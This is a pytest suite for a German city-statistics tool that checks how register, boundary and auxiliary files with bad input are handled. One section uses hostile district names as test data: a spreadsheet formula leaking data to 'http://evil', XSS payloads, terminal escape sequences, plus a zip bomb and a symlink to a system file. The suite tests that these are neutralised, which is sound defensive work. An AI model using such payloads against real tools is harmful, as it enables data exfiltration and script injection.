    Case("parquet-text-types", "Parquet mit Text statt Zahl/Datum (Alter „40“, Datum „2015-03-01“, x „410500,0“)",
         "register", parquet_as_text, Ingested(check=check_parquet_text), effect="values parsed like CSV text"),
    Case("parquet-timestamps", "Parquet mit Zeitstempel (UTC) statt Datum", "register", parquet_timestamps,
         Ingested(check=check_timestamps), effect="converted to the German calendar date"),
    Case("missing-markers", "Leerwerte als „NULL“ oder „#NV“ geschrieben", "register",
         csv_file(lambda t: replace_line("p02", ";TUR;;", ";TUR;NULL;")(replace_line("p05", ";DEU;;", ";DEU;#NV;")(t))),
         Ingested(check=expect_value("p02", "nationality_2", None)),
         effect="read as empty (also NA, N/A, NaN, None, #N/A)"),
    # ---------------------------------------------------------------- file: which reference date
    Case("name-without-date", "Dateiname ohne Stichtag (auszug.parquet)", "register",
         parquet(base_rows, name="auszug.parquet"), Unusable("file.reference_date", match="cannot tell")),
    Case("reference-date-column", "Spalte reference_date widerspricht dem Dateinamen", "register",
         parquet_with_column("reference_date", "2019-12-31"),
         Unusable("file.reference_date", "reference_date", match="wrong file")),
    Case("later-extract", "Auszug eines späteren Stichtags (viele Einzüge nach dem Stichtag)", "register",
         parquet(many_later_moves), Unusable("file.reference_date", "moved_in_address", match="later reference date")),
    # ---------------------------------------------------------------- file: too many bad rows
    Case("duplicates-many", "Viele doppelte Pseudonyme (mehr als 0,1 % der Zeilen)", "register",
         with_rows(person("g001"), person("g002")), Unusable("file.duplicates", "person_id", match="share a person_id")),
    Case("quarantine-share", "Mehr als 5 % fehlerhafte Zeilen (Koordinaten in Grad)", "register",
         parquet(lambda: [person(f"g{i:03d}", x=7.7, y=49.4) for i in range(20)] + clean_rows()),
         Unusable("file.quarantine_share", "x", match="coordinates.crs")),
    # ---------------------------------------------------------------- rows
    Case("duplicate-id", "Ein doppeltes Pseudonym in einer großen Datei", "register",
         parquet(lambda: fillers(2500) + [person("g001")]), Ingested({"person_id.unique": 2})),
    Case("person-id-missing", "Pseudonym fehlt", "register", with_rows(person(None)),
         Ingested({"person_id.required": 1})),
    Case("age-too-high", "Alter über 120 Jahre", "register", with_rows(person("b1", age=130)),
         Ingested({"age.range": 1})),
    Case("age-negative", "Negatives Alter", "register", with_rows(person("b1", age=-1)), Ingested({"age.range": 1})),
    Case("age-fraction", "Alter mit Nachkommastelle („12,5“)", "register",
         csv_file(replace_line("p04", ";7;", ";12,5;")), Ingested({"age.type": 1})),
    Case("age-text", "Alter als Wort („vierzig“)", "register",
         csv_file(replace_line("p01", ";40;", ";vierzig;")), Ingested({"age.type": 1})),
    Case("age-missing", "Alter fehlt", "register", with_rows(person("b1", age=None)), Ingested({"age.required": 1})),
    Case("sex-unknown", "Geschlecht „f“ (nicht m/w/d/x)", "register", with_rows(person("b1", sex="f")),
         Ingested({"sex.allowed": 1})),
    Case("sex-upper-case", "Geschlecht in Großbuchstaben („M“, „W“)", "register",
         with_rows(person("b1", sex="M"), person("b2", sex="W")), Ingested(check=expect_value("b1", "sex", "m")),
         effect="codes lower-cased (sex, german_acquisition, marital_status)"),
    Case("nationality-unknown", "Staatsangehörigkeit „ZZZ“ (kein Ländercode)", "register",
         with_rows(person("b1", nationality_1="ZZZ")), Ingested({"nationality_1.code": 1})),
    Case("nationality-alpha2", "Staatsangehörigkeit zweistellig („DE“ statt „DEU“)", "register",
         with_rows(person("b1", nationality_1="DE")), Ingested({"nationality_1.code": 1})),
    Case("nationality-lower-case", "Staatsangehörigkeit klein geschrieben („tur“)", "register",
         with_rows(person("b1", nationality_1="tur", german_acquisition=None)),
         Ingested(check=expect_value("b1", "nationality_1", "TUR")), effect="country codes upper-cased"),
    Case("acquisition-unknown", "Erwerbsart der deutschen Staatsangehörigkeit „marriage“", "register",
         with_rows(person("b1", german_acquisition="marriage")), Ingested({"german_acquisition.allowed": 1})),
    Case("marital-unknown", "Familienstand „married“", "register",
         with_rows(person("b1", marital_status="married")), Ingested({"marital_status.allowed": 1})),
    Case("move-address-future", "Einzug in die Wohnung nach dem Stichtag", "register",
         with_rows(person("b1", moved_in_address=date(2021, 6, 1))), Ingested({"moved_in_address.not_future": 1})),
    Case("move-city-future", "Zuzug in die Stadt nach dem Stichtag", "register",
         with_rows(person("b1", moved_in_city=date(2021, 6, 1))), Ingested({"moved_in_city.not_future": 1})),
    Case("move-address-before-birth", "Einzug in die Wohnung vor der Geburt", "register",
         with_rows(person("b1", age=10, moved_in_address=date(2005, 1, 1))),
         Ingested({"moved_in_address.before_birth": 1})),
    Case("move-city-before-birth", "Zuzug in die Stadt vor der Geburt", "register",
         with_rows(person("b1", age=10, moved_in_city=date(2008, 5, 1), moved_in_address=date(2012, 1, 1))),
         Ingested({"moved_in_city.before_birth": 1})),
    Case("address-missing-date", "Einzugsdatum der Wohnung fehlt", "register",
         with_rows(person("b1", moved_in_address=None)), Ingested({"moved_in_address.required": 1})),
    Case("date-invalid", "Ungültiges Datum („31.02.2019“)", "register",
         csv_file(replace_line("p01", ";01.03.2015;", ";31.02.2019;"), german_dates=True),
         Ingested({"moved_in_address.type": 1})),
    Case("date-two-digit-year", "Datum mit zweistelliger Jahreszahl („01.03.15“)", "register",
         csv_file(replace_line("p01", ";01.03.2015;", ";01.03.15;"), german_dates=True),
         Ingested({"moved_in_address.type": 1})),
    Case("immigration-before-birth", "Zuzugsjahr aus dem Ausland vor dem Geburtsjahr", "register",
         with_rows(person("b1", age=40, immigration_year=1975, nationality_1="TUR", german_acquisition=None)),
         Ingested({"immigration_year.plausible": 1})),
    Case("immigration-future", "Zuzugsjahr aus dem Ausland nach dem Stichtag", "register",
         with_rows(person("b1", immigration_year=2022)), Ingested({"immigration_year.plausible": 1})),
    Case("coordinates-missing", "Koordinaten fehlen", "register", with_rows(person("b1", x=None)),
         Ingested({"x.required": 1})),
    Case("coordinates-nan-inf", "Koordinaten „NaN“ bzw. unendlich (Parquet)", "register",
         with_rows(person("b1", x=float("nan")), person("b2", y=float("inf"))),
         Ingested({"x.required": 1, "y.type": 1})),
    Case("coordinates-swapped", "x und y vertauscht", "register",
         with_rows(person("b1", x=5_477_500.0, y=410_500.0)), Ingested({"coordinates.crs": 1})),
    Case("coordinates-degrees", "Koordinaten in Grad (WGS84) statt Metern", "register",
         with_rows(person("b1", x=7.77, y=49.44)), Ingested({"coordinates.crs": 1})),
    # ---------------------------------------------------------------- parent links and households
    Case("parent-nobody", "Verweis auf eine Mutter, die es im Auszug nicht gibt", "register",
         with_rows(child("k1", mother_id="nobody")), Ingested(links={"mother_id.exists": 1})),
    Case("parent-self", "Person ist als ihr eigener Vater eingetragen", "register",
         with_rows(child("k1", father_id="k1")), Ingested(links={"father_id.self": 1})),
    Case("parent-too-young", "Mutter nur 10 Jahre älter als das Kind", "register",
         with_rows(person("mum", age=20), child("kid", age=10, mother_id="mum")),
         Ingested(links={"mother_id.age_gap": 1})),
    Case("parent-cycle", "Zyklus: A ist Mutter von B und B Mutter von A", "register",
         with_rows(person("mum", age=40, mother_id="kid"), child("kid", age=10, mother_id="mum")),
         Ingested(links={"mother_id.age_gap": 1}, check=check_cycle_2)),
    Case("parent-cycle-3", "Zyklus über drei Personen (A→B→C→A)", "register",
         with_rows(child("c1", age=10, mother_id="c2"), person("c2", age=30, mother_id="c3"),
                   person("c3", age=50, mother_id="c1")),
         Ingested(links={"mother_id.age_gap": 1}, check=check_cycle_3)),
    Case("household-younger-parent", "Im selben Haushalt: Kind mit jüngerem „Vater“ verknüpft", "register",
         with_rows(person("dad", age=8, household_id="Hx", sex="m"),
                   person("son", age=12, household_id="Hx", father_id="dad"), person("gran", age=70, household_id="Hx")),
         Ingested(links={"father_id.age_gap": 1})),
    Case("parent-quarantined", "Mutter steht wegen eines Fehlers in der Quarantäne", "register",
         with_rows(person("mum", age=130), child("kid", mother_id="mum")),
         Ingested({"age.range": 1}, links={"mother_id.exists": 1})),
    Case("household-minors-only", "Haushalt nur aus Minderjährigen", "register",
         with_rows(person("s1", age=16, household_id="Hkids"), person("s2", age=14, household_id="Hkids")),
         Ingested(warnings={"household_id.minors_only": 1}, note="household_id.minors_only")),
    # ---------------------------------------------------------------- ids exactly as delivered
    Case("ids-float-formatted", "Mutter-Pseudonym als „3.0“, Person als „3“ (Tabellenkalkulation)", "register",
         numbered_csv(mother_as_float), Unusable("file.id_format", "mother_id", match="numbers written by a spreadsheet")),
    Case("ids-float-parquet", "Pseudonyme als Gleitkommazahlen in Parquet (1.0, 2.0, …)", "register",
         float_id_parquet, Unusable("file.id_format", "person_id", match="floating-point")),
    Case("ids-leading-zeros", "Führende Nullen nur in den Elternverweisen verloren („0003“ vs. „3“)", "register",
         numbered_csv(padded_person_ids), Unusable("file.id_format", "mother_id", match="leading zeros")),
    Case("ids-scientific", "Langes Pseudonym in Exponentialschreibweise („1.23457E+11“)", "register",
         numbered_csv(scientific_ids), Unusable("file.id_format", "person_id", match="spreadsheet")),
    Case("ids-hex", "Hex-Pseudonyme, die wie Zahlen mit Exponent aussehen („1805881704e3“)", "register",
         with_rows(person("1805881704e3"), person("0e0188453228")), Ingested(check=lambda r: _has_ids(r, "1805881704e3", "0e0188453228")),
         effect="ids, not numbers"),
    Case("ids-digits-text", "Pseudonyme nur aus Ziffern, als Text geliefert", "register",
         numbered_csv(lambda rows: rows), Ingested(check=lambda r: _links_kept(r)),
         effect="ids compared as text, links kept"),
    # ---------------------------------------------------------------- names, sizes, values
    Case("date-trailing-text", "Datum mit angehängtem Text („2021-02-19xyz“)", "register",
         csv_file(replace_line("p01", ";2015-03-01;", ";2021-02-19xyz;")), Ingested({"moved_in_address.type": 1})),
    Case("name-trailing-text", "Dateiname mit Text nach dem Datum (2021-02-19xyz.parquet)", "register",
         parquet(base_rows, name="2021-02-19xyz.parquet"), Unusable("file.reference_date", match="cannot tell")),
    Case("name-future", "Stichtag im Dateinamen liegt in der Zukunft", "register",
         parquet(base_rows, name=f"{FUTURE}.parquet"), Unusable("file.reference_date", match="lies in the future")),
    Case("gzip-bomb", "Kleine .csv.gz-Datei, die sich auf 80 MiB entpackt („Zip-Bombe“)", "register", gzip_bomb,
         Unusable("file.size", match="expands to more than")),
    Case("parquet-too-many-rows", "Parquet-Datei kündigt mehr Zeilen an als erlaubt", "register",
         parquet(base_rows), Unusable("file.size", match="declares 110 rows"),
         options={"limits": ReadLimits(max_rows=100)}),
    Case("value-10mb", "Wert von 10 MB in einer Zelle (reference_date)", "register", huge_value,
         Unusable("file.reference_date", "reference_date", match="characters in all")),
    # ---------------------------------------------------------------- deliveries in data/raw
    Case("d-duplicate-date", "Zwei Dateien für denselben Stichtag (.csv und .parquet)", "delivery",
         project_with((f"{DAY}.csv", "extract"), (f"{DAY}.parquet", "extract")),
         Delivered(refused="2 files for reference date")),
    Case("d-future-date", "Datei mit einem Stichtag in der Zukunft", "delivery",
         project_with((f"{DAY}.parquet", "extract"), (f"{FUTURE}.parquet", "extract")),
         Delivered(refused="lies in the future")),
    Case("d-impossible-date", "Datei mit unmöglichem Datum (2024-02-30.parquet)", "delivery",
         project_with((f"{DAY}.parquet", "extract"), ("2024-02-30.parquet", "extract")),
         Delivered(refused="does not exist")),
    Case("d-trailing-text", "Dateiname mit Text nach dem Datum (2021-02-19xyz.csv)", "delivery",
         project_with((f"{DAY}.parquet", "extract"), ("2021-02-19xyz.csv", "extract")),
         Delivered(refused="not exactly <YYYY-MM-DD>.csv")),
    Case("d-german-date", "Datum im Dateinamen deutsch geschrieben (31.03.2024.csv)", "delivery",
         project_with((f"{DAY}.parquet", "extract"), ("31.03.2024.csv", "extract")),
         Delivered(refused="rename to 2024-03-31.csv")),
    Case("d-xlsx", "Excel-Datei mit Stichtag im Namen (2024-12-31.xlsx)", "delivery",
         project_with((f"{DAY}.parquet", "extract"), ("2024-12-31.xlsx", "text")),
         Delivered(refused="unsupported file type")),
    Case("d-other-file", "Sonstige Datei im Registerordner (liesmich.txt, Unterordner)", "delivery",
         project_with((f"{DAY}.parquet", "extract"), ("liesmich.txt", "text"), ("alt", "folder")),
         Delivered(not_used="not a delivery")),
    Case("d-aux-without-register", "Zusatzdaten für einen Stichtag ohne Registerauszug", "delivery",
         project_with((f"{DAY}.parquet", "extract"), auxiliary=("2019-12-31.csv",)),
         Delivered(not_used="no register extract for this reference date")),
    Case("d-symlink-outside", "Symbolischer Link aus dem Arbeitsverzeichnis hinaus (auf eine Systemdatei)", "delivery",
         symlink_outside, Delivered(refused="outside the working directory", check=lambda root, e: _no_secret(e))),
    Case("d-symlink-inside", "Symbolischer Link auf eine Datei innerhalb des Arbeitsverzeichnisses", "delivery",
         symlink_inside, Delivered(followed="-> lieferungen/auszug.parquet")),
    # ---------------------------------------------------------------- auxiliary figures
    Case("a-negative", "Zusatzdaten: negative Anzahl (SGB-II-Quote −2,3 %)", "auxiliary",
         aux_file("A;-1;30;10", *AUX_GOOD[1:]), AuxiliaryRead({"sgb2_recipients_under65.range": 1})),
    Case("a-over-residents", "Zusatzdaten: mehr Empfänger als Einwohner (Quote 225 %)", "auxiliary",
         aux_over_residents, AuxiliaryRead(removed={"sgb2_recipients_under65.residents": 1})),
    Case("a-decimal", "Zusatzdaten: Anzahl mit Dezimalkomma („12,5“)", "auxiliary",
         aux_file("A;12,5;30;10", *AUX_GOOD[1:]), AuxiliaryRead({"sgb2_recipients_under65.type": 1})),
    Case("a-thousands", "Zusatzdaten: Tausenderpunkt („1.234“)", "auxiliary",
         aux_file("A;1.234;30;10", *AUX_GOOD[1:]), AuxiliaryRead(check=lambda r: _aux_value(r, "A", 1234))),
    Case("a-markers", "Zusatzdaten: „k.A.“, „.“ und „-“ statt Zahlen", "auxiliary",
         aux_file("A;k.A.;.;-", *AUX_GOOD[1:]),
         AuxiliaryRead(markers={"children_under15_in_sgb2.zero": 1, "sgb2_recipients_under65.missing": 1,
                                "unemployed.missing": 1}, check=lambda r: _aux_value(r, "A", None))),
    Case("a-text", "Zusatzdaten: Wort statt Zahl („viele“)", "auxiliary",
         aux_file("A;viele;30;10", *AUX_GOOD[1:]), AuxiliaryRead({"sgb2_recipients_under65.type": 1})),
    Case("a-excel", "Zusatzdaten: Excel-Arbeitsmappe als .csv gespeichert", "auxiliary",
         aux_file(data=xlsx_bytes()), Unusable("file.readable", match="Excel workbook (.xlsx)")),
    Case("a-cp1252", "Zusatzdaten in Windows-1252 mit Umlauten in einer Zusatzspalte", "auxiliary",
         aux_file(*[line + f";Bezirk Ä{i}" for i, line in enumerate(AUX_GOOD)], header=AUX_HEADER + ";name",
                  encoding="cp1252"),
         AuxiliaryRead(check=lambda r: _aux_encoding(r, "cp1252"))),
    Case("a-missing-column", "Zusatzdaten: Spalte unemployed fehlt", "auxiliary",
         aux_file("A;40;10", header="district_id;sgb2_recipients_under65;children_under15_in_sgb2"),
         Unusable("file.columns", "unemployed", match="required column(s) missing")),
    Case("a-duplicate-district", "Zusatzdaten: Bezirk doppelt", "auxiliary",
         aux_file(*AUX_GOOD, "A;1;1;1"), Unusable("file.duplicates", "district_id", match="more than once")),
    # ---------------------------------------------------------------- pseudonyms across dates
    Case("i-birth-year", "Pseudonym kommt mit anderem Geburtsjahr wieder (Alter 40 → 62)", "dates",
         identity_frames(p01={"age": 62}), IdentityWarned(birth_year=1, sex=0)),
    Case("i-sex", "Pseudonym kommt mit anderem Geschlecht wieder", "dates",
         identity_frames(p05={"sex": "w"}), IdentityWarned(birth_year=0, sex=1)),
    Case("i-birthday", "Pseudonym ein Jahr später, Alter um 2 gestiegen (Geburtstag, Rundung)", "dates",
         identity_frames(p01={"age": 42}), IdentityWarned(birth_year=0, sex=0)),
    # ---------------------------------------------------------------- boundaries
    Case("b-invalid-geometry", "Ungültige Bezirksgeometrie (Selbstüberschneidung, „Schleife“)", "boundaries",
         boundary_file(grid_bowtie), BoundariesRead(check_repaired), effect="repaired with make_valid; reported"),
    Case("b-overlap", "Bezirke überlappen sich (20 m breiter Streifen)", "boundaries",
         boundary_file(lambda: grid_shifted(20.0)),
         Unusable("boundaries.overlaps", "geometry", match="largest: A / B (20,000.0 m²)")),
    Case("b-gap", "Lücke zwischen Bezirken (200 m × 200 m)", "boundaries", boundary_file(grid_with_gap),
         Unusable("boundaries.gaps", "geometry", match="1 gap(s) between districts with 40,000.0 m²")),
    Case("b-overlap-noise", "Bezirke überlappen sich um 2 m² (Digitalisierungsrauschen)", "boundaries",
         boundary_file(lambda: grid_shifted(0.002)), BoundariesRead(check_overlap_repaired),
         effect="overlap kept by the first id (A), cut out of B; listed in `repairs`"),
    Case("b-sliver-gaps", "Zwölf schmale Lücken (1 m breit) zwischen zwei Bezirken", "boundaries",
         boundary_file(grid_with_slivers), BoundariesRead(check_slivers_repaired),
         effect="each sliver given to the neighbour with the longest shared border; listed in `repairs`"),
    Case("b-wide-gap-tolerated", "Lücke von 10 m × 10 m, Toleranz per `max_gap_share` erhöht", "boundaries",
         boundary_file(grid_with_wide_gap), BoundariesRead(check_gap_left),
         options={"parameters": BoundaryParameters(max_gap_share=1e-4)},
         effect="gap left open (wider than `sliver_width_m`); persons in it go to the nearest district"),
    Case("b-collapsed-geometry", "Bezirk zu einer Linie zusammengefallen (nicht reparierbar)", "boundaries",
         boundary_file(grid_with(3, "geometry", shapely.Polygon([(ORIGIN[0], ORIGIN[1]), (ORIGIN[0] + 5, ORIGIN[1] + 5),
                                                                 (ORIGIN[0] + 10, ORIGIN[1] + 10)]))),
         Unusable("boundaries.geometry", "geometry", match="empty or non-polygon geometries for district(s) D")),
    Case("b-empty-geometry", "Bezirk mit leerer Geometrie", "boundaries",
         boundary_file(grid_with(2, "geometry", shapely.Polygon())),
         Unusable("boundaries.geometry", "geometry", match="empty or non-polygon")),
    Case("b-points", "Punkte statt Flächen", "boundaries", boundary_file(grid_points),
         Unusable("boundaries.geometry", "geometry", match="empty or non-polygon")),
    Case("b-duplicate-id", "Doppelte Bezirkskennung", "boundaries", boundary_file(grid_with(1, "district_id", "A")),
         Unusable("boundaries.duplicate_ids", "district_id", match="duplicate district ids A")),
    Case("b-missing-id", "Bezirk ohne Kennung", "boundaries", boundary_file(grid_with(1, "district_id", None)),
         Unusable("boundaries.duplicate_ids", "district_id", match="without an id")),
    Case("b-no-id-column", "Keine Kennungs- oder Namensspalte", "boundaries", boundary_file(without_id_column),
         Unusable("boundaries.id", "district_id", match="no district id or name column")),
    Case("b-shapefile-no-prj", "Shapefile ohne .prj-Datei (Koordinatensystem nicht angegeben)", "boundaries",
         shapefile_without_prj, Unusable("boundaries.crs", "geometry", match="declares no")),
    Case("b-geojson-wgs84", "GeoJSON in WGS84 (Grad)", "boundaries",
         boundary_file(lambda: grid_districts().to_crs("EPSG:4326"), "districts.geojson", "GeoJSON"),
         BoundariesRead(check_reprojected), effect="reprojected to EPSG:25832"),
    Case("b-geojson-metres-undeclared", "GeoJSON in Metern ohne Angabe des Koordinatensystems", "boundaries",
         geojson_in_metres_without_crs, Unusable("boundaries.crs", "geometry", match="they are metres")),
    Case("b-wrong-crs-declared", "Koordinaten in Grad, aber als EPSG:25832 (Meter) deklariert", "boundaries",
         boundary_file(degrees_declared_as_metres), Unusable("boundaries.crs", "geometry", match="do not lie in Germany")),
    Case("b-zero-features", "Grenzdatei ohne ein einziges Objekt", "boundaries", zero_features,
         Unusable("boundaries.rows", match="no features")),
    Case("b-z-coordinates", "Geometrien mit Höhenwerten (3D, z-Koordinaten)", "boundaries",
         boundary_file(grid_3d), BoundariesRead(check_flat), effect="z dropped"),
    Case("b-multipolygon", "Bezirk aus zwei getrennten Teilflächen (MultiPolygon)", "boundaries",
         boundary_file(grid_multipolygon), BoundariesRead(check_multipolygon), effect="accepted as one district"),
    Case("b-two-layers", "GeoPackage mit mehreren Ebenen (Ortsbezirke und Stadtteile)", "boundaries",
         two_layers, Unusable("boundaries.layers", match="ortsbezirke, stadtteile")),
    Case("b-unreadable", "Beschädigte Grenzdatei", "boundaries", unreadable_boundaries,
         Unusable("boundaries.readable", match="cannot be read")),
    # ---------------------------------------------------------------- boundary versions
    Case("v-before-first", "Stichtag vor der ersten Grenzversion", "versions", versions("2021-01-01"),
         Unusable("boundaries.versions", match="no boundary version is valid at the reference date 2020-12-31")),
    Case("v-both-layouts", "Grenzdatei direkt im Ordner und zugleich Versionsordner", "versions",
         versions("2019-01-01", direct=True), Unusable("boundaries.versions", match="keep one layout")),
    Case("v-not-a-date", "Versionsordner ohne gültiges Datum (2021-13-01)", "versions", versions("2019-01-01", "2021-13-01"),
         Unusable("boundaries.versions", match="is not a date")),
    # ---------------------------------------------------------------- location
    Case("l-outside", "Adresse außerhalb aller Bezirke", "location",
         persons_at(*INSIDE, (ORIGIN[0] - 500, ORIGIN[1])), Located(outside=1)),
    Case("l-hole", "Adresse in einem Loch eines Bezirks (Fläche ohne Bezirk)", "location",
         persons_at(*INSIDE, cell_centre(1, 1), districts=grid_with_hole), Located(outside=0, nearest=1)),
    Case("l-edge", "Adresse 30 m außerhalb der Stadtgrenze", "location",
         persons_at(*INSIDE, (ORIGIN[0] - 30, ORIGIN[1] + 500)), Located(outside=0, nearest=1)),
    Case("l-border", "Adresse genau auf der Grenze zweier Bezirke", "location",
         persons_at(*INSIDE, (ORIGIN[0] + SIDE, ORIGIN[1] + 0.5 * SIDE)), Located(outside=0, ambiguous=1)),
    Case("l-exclave", "Adresse in der abgetrennten Teilfläche eines Bezirks", "location",
         persons_at(*INSIDE, (ORIGIN[0] + 3.5 * SIDE, ORIGIN[1] + 0.5 * SIDE), districts=grid_multipolygon),
         Located(outside=0)),
    Case("l-other-city", "Auszug einer anderen Stadt (alle Adressen außerhalb der Bezirke)", "location",
         persons_at(*[(x + 100_000, y) for x, y in INSIDE]),
         Unusable("location.outside_share", "x", match="outside every district")),
    # ---------------------------------------------------------------- names that attack a reader's tool
    Case("n-formula", "Bezirksname `=HYPERLINK(\"http://evil/?\"&A1,\"x\")` (Tabellenformel)", "names",
         hostile_name('=HYPERLINK("http://evil/?"&A1,"x")'), Inert(),
         effect="text: CSV cell with a leading `'`, workbook string cell with quote prefix, never a formula"),
    Case("n-plus", "Bezirksname `+SUM(1)`", "names", hostile_name("+SUM(1)"), Inert(),
         effect="text: CSV `'+SUM(1)`, workbook string cell with quote prefix"),
    Case("n-minus", "Bezirksname `-2+3`", "names", hostile_name("-2+3"), Inert(),
         effect="text: CSV `'-2+3`, workbook string cell with quote prefix (numbers stay numbers)"),
    Case("n-at", "Bezirksname `@cmd`", "names", hostile_name("@cmd"), Inert(),
         effect="text: CSV `'@cmd`, workbook string cell with quote prefix"),
    Case("n-tab", "Bezirksname beginnt mit einem Tabulator (`\\tTab`)", "names", hostile_name("\tTab"),
         Inert(shown="\\x09Tab"), effect="CSV `'` + tab; figures, workbook and console show `\\x09Tab`"),
    Case("n-mathtext", "Bezirksname `$\\alpha$ x` (matplotlib-Mathtext)", "names", hostile_name("$\\alpha$ x"),
         Inert(), effect="figures draw `$\\alpha$ x` as written (no mathtext)"),
    Case("n-mathtext-invalid", "Bezirksname `Preis $x^$ Ost` (ungültiges Mathtext)",
         "names", hostile_name("Preis $x^$ Ost"), Inert(), effect="figures draw it as written; nothing breaks"),
    Case("n-script", "Bezirksname `<script>alert(1)</script>`", "names",
         hostile_name("<script>alert(1)</script>"), Inert(),
         effect="HTML: escaped (`&lt;script&gt;`); SVG: text of a `<text>` element"),
    Case("n-svg", "Bezirksname `</svg><svg onload=alert(1)>`", "names",
         hostile_name("</svg><svg onload=alert(1)>"), Inert(),
         effect="HTML: escaped; SVG: escaped text, the file stays one well-formed SVG"),
    Case("n-escape", "Bezirksname mit Terminal-Steuerfolge (ESC `[31m`) und Richtungsumkehr (U+202E)", "names",
         hostile_name("Nord\x1b[31m rot\u202eSüd"), Inert(shown="Nord\\x1b[31m rot\\u202eSüd"),
         effect="figures, workbook, console show `\\x1b[31m` and `\\u202e` as text (an SVG could not even "
                "hold ESC); CSV and Parquet keep the name as delivered"),
]


def check_inert(name: str, shown: str, folder: Path) -> None:
    """``name`` written by every publishing writer: CSV and Parquet, workbook, figure (PNG + SVG), HTML,
    console message. Each shows it as text."""
    import csv
    import xml.etree.ElementTree as ET

    from markupsafe import escape
    from openpyxl import load_workbook

    from openpyxl import Workbook

    from quarterstats.figures import _draw, style
    from quarterstats.report import render_index
    from quarterstats.safe_text import console_text, html_text, is_formula_like
    from quarterstats.tables import write_table_files
    from quarterstats.workbook import _text_cell

    table = pd.DataFrame({"district_id": pd.array(["A"], dtype="string"),
                          "district_name": pd.array([name], dtype="string"), "value": [-1.5]})
    write_table_files(table, folder, "indikatoren")
    record = list(csv.reader(io.StringIO((folder / "indikatoren.csv").read_text(encoding="utf-8"), newline="")))[1]
    assert record[1] == ("'" + name if is_formula_like(name) else name) and record[2] == "-1.5"
    assert pd.read_parquet(folder / "indikatoren.parquet")["district_name"].item() == name
    book = Workbook(write_only=True)  # every text cell of the workbooks is written by _text_cell
    sheet = book.create_sheet("Bezirke")
    sheet.append([_text_cell(sheet, "A"), _text_cell(sheet, name)])
    book.save(folder / "tabellen.xlsx")
    cell = load_workbook(folder / "tabellen.xlsx")["Bezirke"]["B1"]
    assert (cell.value, cell.data_type) == (shown, "s") and cell.quotePrefix == is_formula_like(shown)

    def figure():
        fig = style.new_figure(8, 6)
        ax = fig.subplots()
        ax.set_title(name)
        ax.set_yticks([0, 1], ["Stadt insgesamt", name])
        ax.legend(handles=ax.plot([0, 1], [0, 1], label=name))
        return style.Drawn(fig, name, name)

    drawn = _draw(figure)
    texts = ["".join(t.itertext()) for t in ET.fromstring(drawn.svg).iter() if t.tag.endswith("}text")]
    assert texts.count(shown) == 3  # title, tick label, legend: drawn literally, no mathtext
    assert drawn.png.startswith(b"\x89PNG")
    html = render_index(folder, [], city_name=name).read_text(encoding="utf-8")
    assert str(escape(html_text(name))) in html and ("<" not in name or name not in html)
    assert not any(c in html for c in "\x1b\u202e")
    message = str(InputError(f"unknown district {name}", file=folder / f"{name}.gpkg", column=name))
    assert all(console_text(c) == c for c in message) and shown in message


# ============================================================================ running a case
def run_case(case: Case, folder: Path):
    """Make the bad input in ``folder`` and feed it to the code that reads it."""
    made = case.make(folder)
    if case.area == "names":
        districts, _ = load_boundaries(made)
        return made, districts.loc[districts["district_id"] == "A", "name"].item()
    if case.area == "register":
        return made, ingest_register(made, **case.options)
    if case.area == "boundaries":
        return made, load_boundaries(made, **case.options)
    if case.area == "auxiliary":
        path, persons = made if isinstance(made, tuple) else (made, None)
        result = ingest_auxiliary(path, REFERENCE_DATE, **case.options)
        removed = check_against_residents(result.accepted, persons)[1] if persons is not None else {}
        return made, (result, removed)
    if case.area == "delivery":
        paths = ProjectPaths(made)
        try:
            paths.register_files()
            error = None
        except InputError as exc:
            error = exc
        return made, (paths.register_inventory(), paths.auxiliary_inventory(), error)
    if case.area == "dates":
        now, before = made
        return made, identity_changes(now, before, REFERENCE_DATE, date(REFERENCE_DATE.year - 1, 12, 31))
    if case.area == "versions":
        return made, ProjectPaths(made).boundary_file(REFERENCE_DATE)
    persons, districts = made
    location = locate_persons(persons, districts, nearest_distance_m=NEAREST_DISTANCE_M)
    check_outside_share(len(location.outside), len(persons), file="register.parquet")
    return made, location


def test_catalogue_is_large_and_ids_are_unique():
    ids = [case.id for case in CASES]
    assert len(ids) == len(set(ids))
    assert len(CASES) >= 30


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_bad_input(case: Case, tmp_path: Path):
    expect = case.expect
    if isinstance(expect, Unusable):
        with pytest.raises(InputError) as err:
            run_case(case, tmp_path)
        error = err.value
        assert (error.rule, error.column) == (expect.rule, expect.column), str(error)
        if expect.match:
            assert expect.match in error.message, error.message
        if case.area == "versions":
            assert error.file and Path(error.file).is_relative_to(tmp_path)  # names the folder
        elif case.area != "location":
            assert error.file and Path(error.file).parent == tmp_path  # the message names the file
        text = str(error)
        assert expect.rule in text and (expect.column is None or f"column '{expect.column}'" in text)
        return
    made, result = run_case(case, tmp_path)
    if isinstance(expect, Inert):
        assert result is not None
        check_inert(result, expect.shown or result, tmp_path)
        return
    if isinstance(expect, Ingested):
        assert result.input_rows == result.accepted_rows + result.quarantined_rows
        assert result.quarantine["rule"].value_counts().to_dict() == expect.quarantined
        assert result.link_repairs == expect.links
        assert result.warnings == expect.warnings
        if expect.quarantined:  # every quarantined row names its rule and its message
            assert result.quarantine["message"].notna().all()
            assert (result.quarantine["row_number"] >= 1).all()
        if expect.note:
            assert any(expect.note in note for note in result.notes), result.notes
        if expect.check:
            expect.check(result)
    elif isinstance(expect, AuxiliaryRead):
        aux, removed = result
        assert aux.input_rows == aux.accepted_rows + aux.quarantined_rows
        assert aux.quarantine["rule"].value_counts().to_dict() == expect.quarantined
        assert aux.markers == expect.markers
        assert removed == expect.removed
        if expect.check:
            expect.check(aux)
    elif isinstance(expect, Delivered):
        register, auxiliary, error = result
        reasons = lambda entries: " | ".join(f"{name}: {why}" for name, why in entries)  # noqa: E731
        if expect.refused:
            assert error is not None and error.rule == "file.delivery", error
            assert expect.refused in error.message and expect.refused in reasons(register.refused), error.message
        else:
            assert error is None, error
        if expect.not_used:
            assert expect.not_used in reasons(register.unused + auxiliary.unused)
        if expect.followed:
            assert any(expect.followed in link for link in register.links), register.links
            assert len(register.files) == 1
        for line in register.lines() + auxiliary.lines():  # paths relative to the working directory
            assert str(made) not in line, line
        if expect.check:
            expect.check(made, error)
    elif isinstance(expect, IdentityWarned):
        assert result["matched"] == 10
        assert (result["person_id.birth_year"], result["person_id.sex"]) == (expect.birth_year, expect.sex)
    elif isinstance(expect, BoundariesRead):
        districts, report = result
        assert report.ok, report.problems
        if expect.check:
            expect.check(districts, report)
    elif isinstance(expect, Located):
        persons, _ = made
        joined, outside = result.joined, result.outside
